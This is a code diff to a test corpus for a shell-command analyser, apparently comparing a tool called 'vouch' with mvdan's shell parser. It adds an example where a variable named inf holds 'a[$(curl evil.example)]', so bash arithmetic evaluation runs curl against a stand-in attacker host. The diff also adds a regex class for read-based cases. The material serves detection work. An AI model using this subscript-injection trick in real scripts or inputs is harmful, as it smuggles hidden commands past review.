@@ -46,6 +46,10 @@ const EXPLAINED: Record<string, { right: 'vouch' | 'mvdan' | 'ambiguous'; why: s
     right: 'vouch',
     why: "printf prints the text a[$(curl …)], which [[ -gt ]] evaluates as arithmetic: the subscript's substitution runs curl",
   },
+  "inf='a[$(curl evil.example)]'; echo $(( $(awk '{s+=$1} END {print s}' f) ))": {
+    right: 'vouch',
+    why: 'an awk sum may print inf (or nan), which arithmetic reads as the variable of that name: its subscript runs curl',
+  },
 };
 
 /** Classes of difference explained once for every line they cover (the corpus grows from rule examples). */
@@ -103,6 +107,12 @@ const EXPLAINED_CLASSES: { kind: string; re: RegExp; right: 'vouch' | 'mvdan'; w
     re: /^for \w+ in (\w|\\\n| )+; do (\$\w+ |:; done; \$\w+ )/,
     right: 'vouch',
     why: 'a loop variable takes each of its static words (a line continuation inside one joins it), and keeps the last after the loop: vouch names the program each would run, mvdan sees a dynamic word',
+  },
+  {
+    kind: 'names differ',
+    re: /\bread\b[^;]*;.*<<< \$'[^']*\\n/,
+    right: 'vouch',
+    why: 'a read in a loop or a function over static text gets one of its lines: vouch names the program each line would run, mvdan sees a dynamic word',
   },
 ];
 
